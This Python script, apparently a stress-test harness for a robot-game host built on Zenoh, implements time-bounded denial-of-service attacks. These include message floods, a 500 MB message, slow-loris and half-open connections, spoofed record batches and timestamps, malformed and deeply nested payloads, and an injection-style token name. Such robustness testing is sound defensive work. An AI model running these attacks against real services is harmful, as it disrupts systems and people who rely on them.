"""Attacks on a host's port: each is a function of a session, the prefix of the match, and a deadline.

Run as a process, `python attacker.py ATTACK ENDPOINT MATCH SECONDS [CREDENTIALS]`, so that an attack takes its own CPU
time; with the credentials of an account it attacks as that one. All are bounded in time, and in what they send.
"""

import json
import os
import socket
import struct
import sys
import time
from collections.abc import Callable
from datetime import UTC
from functools import partial
from pathlib import Path
from typing import Any

import zenoh

STAMP = struct.Struct("<QQq")
"""The attachment of a message: sequence number, wall time in ns, simulated time in ns."""
BELIEF = b'{"version":"2.0","tick":1,"time":0.02,"robot":"cyan1","side":"cyan","message":{}}'
PROGRESS = b'{"version":"2.0","tick":999999,"messages":0,"lost":0}'
COMMAND = b'{"version":"2.0","answers_tick":1}'
_READ = ("world", "game/**", "host/**")
"""Keys that deaf readers subscribe to."""
DEEP = b"[" * 3000 + b"]" * 3000


def open_session(endpoint: str, mode: str = "client", **more: Any) -> zenoh.Session:
    """A session that a program of nobody's opens, without any of the project's settings."""
    config = zenoh.Config()
    settings = {
        "mode": mode,
        "connect/endpoints": [endpoint],
        "scouting/multicast/enabled": False,
        "scouting/gossip/enabled": False,
        **({"listen/endpoints": []} if mode != "client" else {}),
        **more,
    }
    for key, value in settings.items():
        config.insert_json5(key, json.dumps(value))
    return zenoh.open(config)


Attack = Callable[[zenoh.Session, str, float], None]


def _paced(until: float, rate: float, act: Callable[[int], Any]) -> None:
    """Call `act` at this rate until the deadline."""
    number, began = 0, time.monotonic()
    while time.monotonic() < until:
        act(number)
        number += 1
        ahead = began + number / rate - time.monotonic()
        if ahead > 0:
            time.sleep(min(ahead, max(0.0, until - time.monotonic())))


def wildcard_puts(session: zenoh.Session, prefix: str, until: float) -> None:
    """Puts on wildcard keys, with valid messages of several topics and with none."""
    keys = ["**", f"{prefix}**", f"{prefix}**/robot/**", f"{prefix}robot/**", f"{prefix}record/**", f"{prefix}team/**"]
    keys += [f"{prefix}*/*/*", f"{prefix}robot/*/command", f"{prefix}robot/cy$*/command", f"{prefix}team/**/cyan1"]

    def act(number: int) -> None:
        for key in keys:
            for payload in (b"", b"x", BELIEF, PROGRESS, COMMAND):
                session.put(key, payload, attachment=STAMP.pack(number, 0, 0))

    _paced(until, 20, act)


def strange_tokens(session: zenoh.Session, prefix: str, until: float) -> None:
    """Liveliness tokens whose names are no names."""
    names = ["No Name", "Ω", "UPPER", "-", "9", "x" * 5000, "a b\tc", "{}", "'; drop"]
    kinds = ["agent", "recorder", "coach", "refbox", "referee", "session", "host", "nothing"]

    def act(_: int) -> None:
        for token in [session.liveliness().declare_token(f"{prefix}alive/{k}/{n}") for k in kinds for n in names]:
            token.undeclare()

    _paced(until, 5, act)


def silent_recorders(session: zenoh.Session, prefix: str, until: float) -> None:
    """Tokens of recorders that never report."""
    tokens = []
    _paced(until, 200, lambda n: tokens.append(session.liveliness().declare_token(f"{prefix}alive/recorder/x{n}")))


def slow_recorder(session: zenoh.Session, prefix: str, until: float) -> None:
    """A recorder that reports one tick at a time, five times a second."""
    token = session.liveliness().declare_token(f"{prefix}alive/recorder/slow")
    _paced(
        until,
        5,
        lambda n: session.put(
            f"{prefix}record/slow/progress", b'{"version":"2.0","tick":%d,"messages":0,"lost":0}' % n
        ),
    )
    token.undeclare()


def many_agents(session: zenoh.Session, prefix: str, until: float) -> None:
    """Thousands of tokens of agents."""
    tokens = []
    _paced(until, 2000, lambda n: tokens.append(session.liveliness().declare_token(f"{prefix}alive/agent/a{n % 5000}")))


def long_keys(session: zenoh.Session, prefix: str, until: float) -> None:
    """Keys with 201 chunks, as puts, subscriptions and queries."""
    long = prefix + "/".join("a" * 201)
    stars = prefix + "/".join(["**/a"] * 100)

    def act(number: int) -> None:
        session.put(long, b"x")
        session.put(stars, b"x")
        session.get(f"{long}{number}", timeout=0.2)
        session.declare_subscriber(f"{stars}{number}", lambda _: None).undeclare()

    _paced(until, 50, act)


def _queries(key: str, payload: bytes) -> Attack:
    def attack(session: zenoh.Session, prefix: str, until: float) -> None:
        def act(_: int) -> None:
            session.get(f"{prefix}{key}", zenoh.handlers.RingChannel(1), payload=payload, timeout=0.5)

        _paced(until, 4000, act)

    attack.__doc__ = f"Thousands of queries of {key} a second."
    return attack


def histories(session: zenoh.Session, prefix: str, until: float) -> None:
    """Cached messages requested again and again."""
    _paced(
        until,
        400,
        lambda _: session.get(
            f"{prefix}**/@adv/pub/**",
            zenoh.handlers.RingChannel(1),
            timeout=0.5,
            consolidation=zenoh.ConsolidationMode.NONE,
        ),
    )


def subscriptions(session: zenoh.Session, prefix: str, until: float) -> None:
    """Subscriptions that come and go."""
    _paced(
        until, 3000, lambda n: session.declare_subscriber(f"{prefix}world/robot{n % 500}", lambda _: None).undeclare()
    )


def fake_batches(session: zenoh.Session, prefix: str, until: float) -> None:
    """Record batches of nobody's, with sequence numbers far ahead."""
    payload = b'{"stream":1,"number":999999,"tick":999999,"sent_ns":1}\n'
    _paced(
        until, 500, lambda n: session.put(f"{prefix}host/record_batch", payload, attachment=STAMP.pack(10**9 + n, 0, 0))
    )


def flood(session: zenoh.Session, prefix: str, until: float, key: str = "robot/cyan1/command") -> None:
    """Small messages on one key, as fast as they can be sent."""
    publisher = session.declare_publisher(f"{prefix}{key}", congestion_control=zenoh.CongestionControl.BLOCK)
    while time.monotonic() < until:
        for _ in range(1000):
            publisher.put(COMMAND)


def flood_of_names(session: zenoh.Session, prefix: str, until: float) -> None:
    """Small messages on keys of robots that do not exist, as fast as they can be sent."""
    number = 0
    while time.monotonic() < until:
        for _ in range(1000):
            number += 1
            session.put(f"{prefix}robot/ghost{number % 20_000}/command", COMMAND)


def flood_of_orders(session: zenoh.Session, prefix: str, until: float) -> None:
    """Small messages on a coach's key and on a recorder's, as fast as they can be sent."""
    while time.monotonic() < until:
        for _ in range(500):
            session.put(f"{prefix}team/cyan/order", b"{}")
            session.put(f"{prefix}record/recorder/progress", PROGRESS)


def flood_of_drives(session: zenoh.Session, prefix: str, until: float) -> None:
    """Small messages on the keys of manual control, as fast as they can be sent."""
    while time.monotonic() < until:
        for _ in range(500):
            session.put(f"{prefix}robot/cyan1/manual", b"{}")
            session.put(f"{prefix}robot/magenta1/manual", b"{}")


def huge_message(session: zenoh.Session, prefix: str, until: float) -> None:
    """One message of 500 MB."""
    payload = b"\0" * 500_000_000
    session.put(f"{prefix}robot/cyan1/command", payload, congestion_control=zenoh.CongestionControl.BLOCK)
    time.sleep(max(0.0, until - time.monotonic()))


def false_times(session: zenoh.Session, prefix: str, until: float) -> None:
    """Messages whose time stamps lie 0.39 s ahead."""
    from datetime import datetime, timedelta  # the attack's alone

    def act(_: int) -> None:
        ahead = zenoh.Timestamp(datetime.now(UTC) + timedelta(milliseconds=390), session.new_timestamp().get_id())
        session.put(f"{prefix}robot/ghost/command", COMMAND, timestamp=ahead)

    _paced(until, 50, act)


def malformed(session: zenoh.Session, prefix: str, until: float) -> None:
    """Payloads that are no messages, on every key that the host reads, and as queries."""
    keys = [
        "robot/cyan1/command",
        "robot/cyan1/manual",
        "team/cyan/order",
        "team/red/order",
        "record/recorder/progress",
    ]
    services = ["host/setup", "host/claim", "host/parameters", "host/scene", "game/action", "host/record_batches"]
    bad = [b"", b"\xff\xfe", b"null", b"{}", DEEP, b'{"answers_tick":NaN}', b'{"tick":1e999}', b"x" * 60_000]

    def act(_: int) -> None:
        for payload in bad:
            for key in keys:
                session.put(prefix + key, payload, attachment=b"not a stamp")
            for key in [*services, "game/referee_seat", "**"]:
                session.get(prefix + key, zenoh.handlers.RingChannel(1), payload=payload, timeout=0.5)

    _paced(until, 5, act)


def deaf_readers(endpoint: str, match: str, until: float, **user: str) -> None:
    """Subscriptions over ten links that are never read."""
    held = []
    for _ in range(10):
        session = open_session(endpoint, **user)
        held += [session.declare_subscriber(f"touchline/{match}/{key}", zenoh.handlers.FifoChannel(1)) for key in _READ]
        held.append(session)
    time.sleep(max(0.0, until - time.monotonic()))
    os._exit(0)  # Zenoh would wait for the readers


def resets(endpoint: str, match: str, until: float, **user: str) -> None:
    """Connections that are reset in the middle of the handshake."""
    del match, user
    while time.monotonic() < until:
        for content in (b"", b"\x20\x00\x01", b"\xff\x7f" + b"\x01" * 1000):
            try:
                with socket.create_connection(_parts(endpoint), timeout=0.5) as near:
                    near.sendall(content)
                    near.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))  # closes by a reset
            except OSError:
                time.sleep(0.02)


def half_open(endpoint: str, match: str, until: float, **user: str) -> None:
    """A thousand connections that send nothing."""
    del match, user
    held = []
    for _ in range(1000):
        try:
            held.append(socket.create_connection(_parts(endpoint), timeout=0.5))
        except OSError:
            break
    time.sleep(max(0.0, until - time.monotonic()))


def garbage(endpoint: str, match: str, until: float, **user: str) -> None:
    """Raw garbage, a length prefix of 4 GB, and one byte a second."""
    del match, user
    while time.monotonic() < until:
        for content in (b"GET / HTTP/1.1\r\n\r\n", b"\xff\xff\xff\xff" * 100, b"\xff\xff\x00\x00" + b"\x01" * 65_535):
            try:
                with socket.create_connection(_parts(endpoint), timeout=0.5) as near:
                    near.sendall(content)
                    time.sleep(0.02)
            except OSError:
                time.sleep(0.02)


def slow_loris(endpoint: str, match: str, until: float, **user: str) -> None:
    """Two hundred connections that send a byte of a handshake now and then."""
    del match, user
    held = []
    for _ in range(200):
        try:
            held.append(socket.create_connection(_parts(endpoint), timeout=0.5))
        except OSError:
            break
    while time.monotonic() < until:
        for near in held:
            try:
                near.send(b"\x20")
            except OSError:
                continue
        time.sleep(0.5)


def _parts(endpoint: str) -> tuple[str, int]:
    host, _, port = endpoint.partition("/")[2].rpartition(":")
    return host, int(port)


ATTACKS: dict[str, Attack] = {
    "wildcard_puts": wildcard_puts,
    "strange_tokens": strange_tokens,
    "silent_recorders": silent_recorders,
    "slow_recorder": slow_recorder,
    "many_agents": many_agents,
    "long_keys": long_keys,
    "setup_queries": _queries("host/setup", b'{"version":"2.0"}'),
    "parameter_queries": _queries("host/parameters", b'{"version":"2.0","operation":"list"}'),
    "scene_queries": _queries("host/scene", b'{"version":"2.0","operation":"list"}'),
    "action_queries": _queries("game/action", b"{}"),
    "histories": histories,
    "subscriptions": subscriptions,
    "fake_batches": fake_batches,
    "flood": flood,
    "flood_of_names": flood_of_names,
    "flood_of_orders": flood_of_orders,
    "flood_of_drives": flood_of_drives,
    "huge_message": huge_message,
    "false_times": false_times,
    "malformed": malformed,
}
"""Attacks over the protocol of Zenoh."""
RAW_ATTACKS: dict[str, Callable[..., None]] = {
    "half_open": half_open,
    "garbage": garbage,
    "slow_loris": slow_loris,
    "resets": resets,
    "deaf_readers": deaf_readers,
}
"""Attacks on the port itself, or by connections of their own; each is called with the endpoint and the match."""
CONTROLS: dict[str, Attack] = {"burn": partial(flood, key="nobody")}
"""What an attacker's process costs the others by its CPU time alone: its messages reach nobody."""


def user_of(path: str | Path) -> dict[str, str]:
    """The settings with which an account connects, by its file."""
    account = json.loads(Path(path).read_text())
    return {"transport/auth/usrpwd/user": account["user"], "transport/auth/usrpwd/password": account["password"]}


def main() -> None:
    """Carry out one attack."""
    name, endpoint, match, seconds, *credentials = sys.argv[1:]
    user = user_of(credentials[0]) if credentials else {}
    if name in RAW_ATTACKS:
        RAW_ATTACKS[name](endpoint, match, time.monotonic() + float(seconds), **user)
        return
    with open_session(endpoint, **user) as session:
        until = time.monotonic() + float(seconds)
        {**ATTACKS, **CONTROLS}[name](session, f"touchline/{match}/", until)


if __name__ == "__main__":
    main()
